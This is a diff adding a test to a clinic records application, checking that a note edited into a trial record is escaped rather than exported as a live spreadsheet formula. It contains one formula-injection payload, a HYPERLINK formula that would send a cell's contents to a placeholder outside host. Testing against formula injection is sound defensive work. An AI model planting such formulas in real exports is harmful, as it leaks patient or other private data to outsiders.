@@ -228,3 +228,20 @@ def test_no_host_name_in_the_exports_or_the_report(tmp_path, monkeypatch, capsys
         archive = export_encrypted(store, CODE, out, "s", "PW")
     assert host.encode() not in archive.read_bytes()
     capsys.readouterr()
+
+
+def test_a_note_edited_into_the_records_never_becomes_a_spreadsheet_formula(tmp_path):
+    from clinic.export import trials_csv_text
+    from clinic.store import Store
+
+    with Store(tmp_path / "r.sqlite3") as store:
+        store.add_patient("P-1", created_at="2026-11-23T10:00:00+01:00")
+        session = store.start_session("P-1", "2026-11-23T10:00:00+01:00")
+        trial = store.begin_trial(session, "flamingo", {"leg": "left"}, "2026-11-23T10:00:00+01:00")
+        store.finish_trial(
+            trial, {"score": 50.0, "metrics": {"hold_s": -1.5}}, None, "2026-11-23T10:01:00+01:00"
+        )
+        store.set_note(trial, '=HYPERLINK("http://x.example/?"&A1,"see")')
+        text = trials_csv_text(store, "P-1")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+    assert ",-1.5" in text  # a negative number stays a number
